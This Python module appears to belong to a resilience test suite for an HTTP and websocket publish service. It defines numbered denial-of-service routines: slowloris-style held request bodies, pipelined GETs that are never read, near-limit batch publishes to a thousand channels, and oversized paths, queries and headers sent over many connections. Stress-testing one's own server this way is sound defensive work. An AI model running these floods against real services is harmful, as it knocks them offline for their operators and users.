"""HTTP requests that are unfinished, unread, or large."""

import time

from attacks import wire
from attacks.attack import Harm, attack
from attacks.beside import together
from attacks.peers import Backend, connect, count_open, send, websockets

MIB = 1 << 20
WRITE_TIMEOUT_S = 30


def hold_bodies(target, count=2100, hold=8):
    body = b'{"channel":"news","data":"' + b"x" * (MIB - 28) + b'"}'
    whole = wire.request("POST", "/api/events", body)
    head, rest = whole[: -len(body)], body[:-1]
    socks = [connect(target) for _ in range(count)]
    for sock in socks:
        send(sock, head)
    taken = sum(send(sock, rest, 0.2) for sock in socks)
    time.sleep(hold)
    for sock in socks:
        sock.close()
    return taken


@attack("A2")
def held_bodies(target):
    """2,100 publish requests of 1 MiB that hold back their last byte"""
    return f"{hold_bodies(target):,} bodies were accepted by the kernel"


@attack("A3")
def pipelined_gets(target):
    """500 connections that pipeline GETs and never read"""
    socks = [connect(target, 4096) for _ in range(500)]
    gets = wire.request("GET", "/api/stats") * 2000
    for sock in socks:
        send(sock, gets, 0.0)
    time.sleep(WRITE_TIMEOUT_S + 10)
    still = count_open(socks)
    note = f"{500 - still} of 500 reset after {WRITE_TIMEOUT_S + 10} s"
    if still:
        raise Harm(note)
    return note


def _publish_to_many(target, events, channels):
    names = [f"c{n:03}" for n in range(channels)]
    event = {"channels": names, "data": {"p": "x" * (848 * 1024 // events - 8 * channels)}}
    started = time.monotonic()
    status, _ = Backend(target).call("POST", "/api/events/batch", {"events": [event] * events})
    return status, time.monotonic() - started


@attack("A6")
def large_requests(target):
    """Two publish requests of 848 KiB: 15 events for 1,000 channels, ten times"""
    answers = []
    for _ in range(10):
        answers += together([(_publish_to_many, target, 15, 1000)] * 2)
    return f"statuses {sorted({status for status, _ in answers})}, slowest {max(s for _, s in answers):.1f} s"


@attack("A6-many")
def large_allowed_requests(target):
    """Requests just below 64 MiB of messages: 60 events for 1,000 channels, eight at a time"""
    answers = []
    for _ in range(3):
        answers += together([(_publish_small, target, 60)] * 8)
    return f"statuses {sorted({status for status, _ in answers})}, slowest {max(s for _, s in answers):.1f} s"


def _publish_small(target, events):
    event = {"channels": [f"c{n:03}" for n in range(1000)], "data": {"p": "x" * 850}}
    started = time.monotonic()
    status, _ = Backend(target).call("POST", "/api/events/batch", {"events": [event] * events})
    return status, time.monotonic() - started


@attack("pages")
def pages_of_connections(target):
    """20 connections that pipeline /api/connections?limit=1000 with 3,000 clients, and read"""
    clients = websockets(target, 3000)
    socks = [connect(target) for _ in range(20)]
    ask = wire.request("GET", "/api/connections?limit=1000") * 4
    received, deadline = 0, time.monotonic() + 8
    while time.monotonic() < deadline:
        for sock in socks:
            send(sock, ask, 0.05)
        for sock in socks:
            sock.settimeout(0.01)
            try:
                received += len(sock.recv(MIB))
            except OSError:
                pass
    return f"{received / MIB:.0f} MiB of pages, {len(clients):,} clients"


@attack("queries")
def long_queries(target):
    """Requests whose path, query or headers fill the header section, on 50 connections"""
    long = "x=" + "a" * 30_000
    many = "&".join("limit=1" for _ in range(3000))
    texts = [
        wire.request("GET", f"/api/stats?{long}"),
        wire.request("GET", f"/api/channels?{many}"),
        wire.request("GET", "/" + "%41" * 10_000),
        wire.request("GET", "/api/stats", headers=[f"X-{n}: {'v' * 400}" for n in range(60)]),
        wire.request("GET", "/api/channels/" + "n" * 30_000 + "/history"),
        wire.request("GET", "/api/stats", headers=["X: " + "v" * 200_000]),
    ]
    sent, deadline = 0, time.monotonic() + 8
    while time.monotonic() < deadline:
        for text in texts:
            socks = [connect(target) for _ in range(50)]
            sent += sum(send(sock, text * 4, 0.1) for sock in socks)
            for sock in socks:
                sock.close()
    return f"{sent:,} connections, four requests each"
